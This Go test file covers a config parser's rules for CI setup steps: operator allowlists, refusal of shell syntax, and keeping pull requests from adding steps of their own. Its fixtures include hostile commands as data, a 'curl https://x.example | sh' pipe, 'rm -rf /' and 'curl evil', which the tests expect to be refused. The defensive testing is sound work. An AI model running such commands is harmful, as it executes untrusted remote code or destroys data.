package repoconfig

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

const setupYAML = `version: 1
job:
  setup:
    - pip install -r requirements.txt
    - [dbt, deps, --quiet]
    - "pip install -r requirements.txt && curl https://x.example | sh"
    - rm -rf /
`

func TestSetupStepsNeedTheOperatorsPermission(t *testing.T) {
	_, err := Parse(Path, []byte(setupYAML))
	require.Error(t, err)
	lines := strings.Split(err.Error(), "\n")
	require.Len(t, lines, 4, "every step is refused at its own line")
	assert.Equal(t, `.dagctl/config.yaml:4: job.setup[0]: "pip install -r requirements.txt" is not allowed: this bot runs no setup steps (its operator allows them with DAGCTL_JOB_SETUP)`, lines[0])
	assert.Contains(t, lines[1], ".dagctl/config.yaml:5: job.setup[1]: ")
}

func TestSetupStepsAnAllowlistLets(t *testing.T) {
	allow, err := ParseSetupAllowlist(" pip install -r requirements.txt, dbt deps ,")
	require.NoError(t, err)
	assert.Equal(t, "pip install -r requirements.txt,dbt deps", allow.String())

	_, err = ParseWithRules(Path, []byte(setupYAML), Rules{RefuseSetup: allow.Refuse})
	require.Error(t, err)
	assert.Equal(t, []string{
		`.dagctl/config.yaml:6: job.setup[2]: "pip install -r requirements.txt && curl https://x.example | …" uses shell syntax, which only DAGCTL_JOB_SETUP=any allows; write it as plain words or a list of words`,
		".dagctl/config.yaml:7: job.setup[3]: \"rm -rf /\" is not allowed: DAGCTL_JOB_SETUP allows only commands starting with `pip install -r requirements.txt`, `dbt deps`",
	}, strings.Split(err.Error(), "\n"))

	cfg, err := ParseWithRules(Path, []byte("version: 1\njob:\n  setup:\n    - pip install -r requirements.txt\n    - [dbt, deps, --quiet]\n"), Rules{RefuseSetup: allow.Refuse})
	require.NoError(t, err)
	assert.Equal(t, []SetupStep{
		{Argv: []string{"pip", "install", "-r", "requirements.txt"}},
		{Argv: []string{"dbt", "deps", "--quiet"}},
	}, cfg.Job.Setup)
}

func TestSetupStepsAnyAllows(t *testing.T) {
	allow, err := ParseSetupAllowlist("any")
	require.NoError(t, err)
	cfg, err := ParseWithRules(Path, []byte(setupYAML), Rules{RefuseSetup: allow.Refuse})
	require.NoError(t, err)
	require.Len(t, cfg.Job.Setup, 4)
	shell := cfg.Job.Setup[2]
	assert.Equal(t, []string{"sh", "-c", "pip install -r requirements.txt && curl https://x.example | sh"}, shell.Command())
	assert.Equal(t, []string{"rm", "-rf", "/"}, cfg.Job.Setup[3].Command())
}

func TestSetupProblems(t *testing.T) {
	any := Rules{RefuseSetup: SetupAllowlist{Any: true}.Refuse}
	for yaml, want := range map[string]string{
		"version: 1\njob:\n  setup: pip install\n":       ".dagctl/config.yaml:3: job.setup: must be a list, not a string",
		"version: 1\njob:\n  setup:\n    - []\n":         ".dagctl/config.yaml:4: job.setup[0]: must name a command",
		"version: 1\njob:\n  setup:\n    - \"  \"\n":     ".dagctl/config.yaml:4: job.setup[0]: must name a command",
		"version: 1\njob:\n  setup:\n    - {run: x}\n":   ".dagctl/config.yaml:4: job.setup[0]: must be a string, not a mapping",
		"version: 1\njob:\n  setup:\n    - [dbt, [x]]\n": ".dagctl/config.yaml:4: job.setup[0][1]: must be a string, not a list",
	} {
		_, err := ParseWithRules(Path, []byte(yaml), any)
		assert.EqualError(t, err, want, yaml)
	}
	_, err := ParseSetupAllowlist("pip install; curl x")
	assert.ErrorContains(t, err, "not a command prefix of plain words")
	none, err := ParseSetupAllowlist("")
	require.NoError(t, err)
	assert.NotEmpty(t, none.Refuse(SetupStep{Argv: []string{"true"}}), "no setting allows nothing")
}

// The job section, setup included, is the trusted side's: a PR cannot add steps to its own jobs.
func TestMergeTakesSetupFromTheTrustedConfig(t *testing.T) {
	base := Default()
	head := Default()
	head.Job.Setup = []SetupStep{{Argv: []string{"curl", "evil"}}}
	assert.Empty(t, Merge(base, head).Job.Setup)
	base.Job.Setup = []SetupStep{{Argv: []string{"dbt", "deps"}}}
	assert.Equal(t, base.Job.Setup, Merge(base, Default()).Job.Setup)
}
